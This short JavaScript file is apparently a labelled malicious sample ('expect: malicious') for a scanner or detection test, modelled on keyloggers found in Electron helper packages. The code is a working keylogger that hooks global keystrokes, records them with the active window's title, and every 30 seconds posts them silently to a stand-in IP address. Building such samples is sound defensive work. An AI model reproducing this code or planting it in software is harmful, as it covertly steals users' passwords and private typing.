// expect: malicious
// source: keyloggers in Electron helper packages (BeaverTail / OtterCookie reports, 2024-2025): a global
// keyboard hook buffers keystrokes with the active window's title and posts them every 30 s.
import { uIOhook } from 'uiohook-napi';
import activeWindow from 'active-win';
let buf = [];
uIOhook.on('keydown', async (e) => { buf.push([(await activeWindow())?.title, e.keycode]); });
uIOhook.start();
setInterval(() => {
  if (!buf.length) return;
  fetch('http://198.51.100.40:1224/k', { method: 'POST', body: JSON.stringify(buf) }).catch(() => {});
  buf = [];
}, 30000);
